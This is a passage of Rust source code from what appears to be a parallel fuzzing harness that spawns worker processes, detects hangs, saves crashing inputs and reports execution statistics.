        let mut v = || it.next().ok_or(format!("{k} needs a value"));
        match k.as_str() {
            "--seconds" => a.seconds = v()?.parse().map_err(|e| format!("--seconds: {e}"))?,
            "--jobs" => a.jobs = v()?.parse().map_err(|e| format!("--jobs: {e}"))?,
            "--out" => a.out = PathBuf::from(v()?),
            "--seed" => a.seed = v()?.parse().map_err(|e| format!("--seed: {e}"))?,
            "--worker" => a.worker = Some(v()?.parse().map_err(|e| format!("--worker: {e}"))?),
            "--replay" => a.replay.push(PathBuf::from(v()?)),
            "--targets" => {
                a.targets = v()?
                    .split(',')
                    .map(|t| TARGETS.iter().position(|x| *x == t).ok_or(format!("unknown target {t}")))
                    .collect::<Result<_, _>>()?;
            }
            "-h" | "--help" => {
                return Err(format!(
                    "usage: fuzz [--seconds N] [--jobs J] [--out DIR] [--seed S] [--targets {}] [--replay FILE]…",
                    TARGETS.join(",")
                ));
            }
            other => return Err(format!("unknown argument {other}")),
        }
    }
    a.jobs = a.jobs.max(1);
    Ok(a)
}

enum Msg {
    Progress(usize, Stats),
    Exited(usize),
}

fn spawn(a: &Args, id: usize, seed: u64, seconds: f64, tx: mpsc::Sender<Msg>) -> std::io::Result<std::process::Child> {
    let targets: Vec<&str> = a.targets.iter().map(|&t| TARGETS[t]).collect();
    let out = &a.out;
    let mut child = Command::new(std::env::current_exe()?)
        .args(["--worker", &id.to_string(), "--seed", &seed.to_string(), "--seconds", &format!("{seconds:.3}")])
        .args(["--targets", &targets.join(",")])
        .arg("--out")
        .arg(out)
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .spawn()?;
    let stdout = child.stdout.take().ok_or_else(|| std::io::Error::other("no worker stdout"))?;
    std::thread::spawn(move || {
        for line in BufReader::new(stdout).lines().map_while(Result::ok) {
            let mut f = line.split(' ');
            if f.next() != Some("progress") {
                continue;
            }
            let execs = f.next().and_then(|x| x.parse().ok()).unwrap_or(0);
            let crashes = f.next().and_then(|x| x.parse().ok()).unwrap_or(0);
            let per_target = f
                .next()
                .unwrap_or("")
                .split(',')
                .map(|p| {
                    let mut q = p.split(':').map(|x| x.parse().unwrap_or(0));
                    (q.next().unwrap_or(0), q.next().unwrap_or(0))
                })
                .collect();
            if tx.send(Msg::Progress(id, Stats { execs, crashes, per_target })).is_err() {
                return;
            }
        }
        let _ = tx.send(Msg::Exited(id));
    });
    Ok(child)
}

/// Saves the input a dead or hung worker was running.
fn save_current(out: &Path, id: usize, why: &str) -> String {
    let Ok(b) = std::fs::read(out.join(format!("current-{id}.bin"))) else { return "(no current input)".into() };
    if b.len() < 9 {
        return "(no current input)".into();
    }
    let t = TARGETS.get(usize::from(b[0])).copied().unwrap_or("unknown");
    let mut len = [0u8; 8];
    len.copy_from_slice(&b[1..9]);
    let n = (u64::from_le_bytes(len) as usize).min(b.len() - 9);
    let input = &b[9..9 + n];
    let name = format!("{why}-{t}-{:016x}.bin", fnv(input));
    let _ = std::fs::create_dir_all(out.join("crashes"));
    let _ = std::fs::write(out.join("crashes").join(&name), input);
    format!("crashes/{name}")
}

fn parent(a: &Args) -> Result<u64, String> {
    std::fs::create_dir_all(&a.out).map_err(|e| format!("{}: {e}", a.out.display()))?;
    let start = Instant::now();
    let deadline = start + Duration::from_secs_f64(a.seconds);
    let (tx, rx) = mpsc::channel();
    let mut children = Vec::new();
    // Per worker: finished runs' totals plus the current run's latest progress.
    let mut banked = vec![Stats { per_target: vec![(0, 0); TARGETS.len()], ..Default::default() }; a.jobs];
    let mut live = banked.clone();
    let mut last_seen = vec![Instant::now(); a.jobs];
    let mut running = vec![true; a.jobs];
    let mut hung = vec![false; a.jobs];
    let mut deaths = 0u64;
    let mut seed = a.seed;
    for id in 0..a.jobs {
        seed = seed.wrapping_add(0x9E37_79B9_7F4A_7C15);
        children.push(spawn(a, id, seed, a.seconds, tx.clone()).map_err(|e| format!("cannot start a worker: {e}"))?);
    }
    let mut last_print = Instant::now();
    let total = |banked: &[Stats], live: &[Stats]| -> (u64, u64) {
        banked.iter().chain(live).fold((0, 0), |(e, c), s| (e + s.execs, c + s.crashes))
    };
    while running.iter().any(|r| *r) {
        match rx.recv_timeout(Duration::from_millis(500)) {
            Ok(Msg::Progress(id, s)) => {
                live[id] = s;
                last_seen[id] = Instant::now();
            }
            Ok(Msg::Exited(id)) => {
                let status = children[id].wait().map_err(|e| e.to_string())?;
                bank(&mut banked[id], &mut live[id]);
                if status.success() {
                    running[id] = false;
                } else {
                    deaths += 1;
                    let why = if std::mem::take(&mut hung[id]) { "hang" } else { "abort" };
                    let saved = save_current(&a.out, id, why);
                    eprintln!("fuzz: worker {id} ended ({why}, {status}); its input: {saved}");
                    running[id] = restart(a, id, &mut seed, deadline, &tx, &mut children)?;
                    last_seen[id] = Instant::now();
                }
            }
            Err(mpsc::RecvTimeoutError::Timeout) => {}
            Err(mpsc::RecvTimeoutError::Disconnected) => break,
        }
        for id in 0..a.jobs {
            if running[id] && !hung[id] && last_seen[id].elapsed() > HANG_AFTER {
                eprintln!("fuzz: worker {id} hung (no progress for {HANG_AFTER:?}); killing it");
                hung[id] = true;
                let _ = children[id].kill();
                // The reader thread reports the exit; the input is saved there.
            }
        }
        if last_print.elapsed() >= Duration::from_secs(10) {
            last_print = Instant::now();
            let (e, c) = total(&banked, &live);
            eprintln!(
                "fuzz: {:>5.0} s  {e} executions  {c} crashes  {deaths} worker deaths",
                start.elapsed().as_secs_f64()
            );
        }
    }
    let (execs, crashes) = total(&banked, &live);
    let secs = start.elapsed().as_secs_f64();
    println!(
        "fuzz: {execs} executions in {secs:.1} s ({:.0}/s, {} worker(s)); crashes found: {} ({crashes} panics, {deaths} aborts or hangs)",
        execs as f64 / secs.max(0.001),
        a.jobs,
        crashes + deaths
    );
    let mut per: Vec<(u64, u64)> = vec![(0, 0); TARGETS.len()];
    for s in banked.iter().chain(&live) {
        for (i, (n, us)) in s.per_target.iter().enumerate().take(TARGETS.len()) {
            per[i].0 += n;
            per[i].1 = per[i].1.max(*us);
        }
    }
    for (name, (n, us)) in TARGETS.iter().zip(per) {
        println!("  {name:<9} {n:>12} executions, slowest {:.1} ms", us as f64 / 1000.0);
    }
    println!("  crashing inputs: {}", a.out.join("crashes").display());
    Ok(crashes + deaths)
}

fn bank(banked: &mut Stats, live: &mut Stats) {
    banked.execs += live.execs;
    banked.crashes += live.crashes;
    for (b, l) in banked.per_target.iter_mut().zip(&live.per_target) {
        b.0 += l.0;
        b.1 = b.1.max(l.1);
    }
    *live = Stats { per_target: vec![(0, 0); TARGETS.len()], ..Default::default() };
}

fn restart(
    a: &Args,
    id: usize,
    seed: &mut u64,
    deadline: Instant,
    tx: &mpsc::Sender<Msg>,
    children: &mut [std::process::Child],
) -> Result<bool, String> {
    let left = deadline.saturating_duration_since(Instant::now()).as_secs_f64();
    if left < 1.0 {
        return Ok(false);
    }
    *seed = seed.wrapping_add(0x9E37_79B9_7F4A_7C15);
    children[id] = spawn(a, id, *seed, left, tx.clone()).map_err(|e| format!("cannot restart a worker: {e}"))?;
    Ok(true)
}

fn main() -> std::process::ExitCode {
    let a = match args() {
        Ok(a) => a,
        Err(e) => {
            eprintln!("{e}");
            return std::process::ExitCode::from(2);
        }
    };
    if !a.replay.is_empty() {
        let fx = fixed();
        for f in &a.replay {
            let Ok(input) = std::fs::read(f) else {
                eprintln!("{}: cannot read", f.display());
                return std::process::ExitCode::from(2);
            };
            for &t in &a.targets {
                let t0 = Instant::now();
                let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| run_target(t, &input, &fx)));
                println!("{} {}: {:?} in {:?}", f.display(), TARGETS[t], r.map_err(|_| "PANIC"), t0.elapsed());
            }
        }
        return std::process::ExitCode::SUCCESS;
    }
    if let Some(id) = a.worker {
        return match worker(id, a.seed, a.seconds, &a.out, &a.targets) {
            Ok(()) => std::process::ExitCode::SUCCESS,
            Err(e) => {
                eprintln!("fuzz worker {id}: {e}");
                std::process::ExitCode::from(3)
            }
        };
    }
    match parent(&a) {
        Ok(0) => std::process::ExitCode::SUCCESS,
        Ok(_) => std::process::ExitCode::from(1),
        Err(e) => {
            eprintln!("fuzz: {e}");
            std::process::ExitCode::from(2)
        }
    }
}
